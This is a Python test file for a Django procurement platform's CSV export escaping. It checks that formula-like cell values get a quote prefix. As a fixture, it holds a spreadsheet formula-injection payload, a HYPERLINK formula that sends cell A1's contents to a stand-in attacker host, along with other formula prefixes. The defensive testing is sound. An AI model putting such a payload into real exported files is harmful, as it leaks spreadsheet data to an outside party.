"""What the platform exports is text, never a formula (issue 11 #7): a name another party typed as
``=HYPERLINK(…)`` opens in Excel as the text it is."""

import csv
import io

import pytest
from django.urls import reverse

from procurement.core.exports import safe_cell

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_excel_would_run_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["阿托伐他汀钙片", "20mg", 12, None, "A-1"])
def test_anything_else_is_written_as_it_is(value):
    assert safe_cell(value) == value


def test_the_feed_errors_csv_writes_a_hostile_value_as_text(world, client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from procurement.catalogue import services

    batch = services.national_price_import_create(
        user=world.user("provincial_supervisor"),
        uploaded_file=SimpleUploadedFile(
            "feed.csv", "医保药品代码,省份,挂网价格,执行日期\n=1+1,11,9.80,2026-09-18\n".encode()
        ),
    )
    services.national_price_import_run(batch_id=batch.pk)
    client.force_login(world.user("provincial_supervisor"))
    text = client.get(reverse("catalogue:import-errors-csv", args=[batch.pk])).content.decode("utf-8-sig")
    values = [row[2] for row in csv.reader(io.StringIO(text))][1:]
    assert "'=1+1" in values and "=1+1" not in values
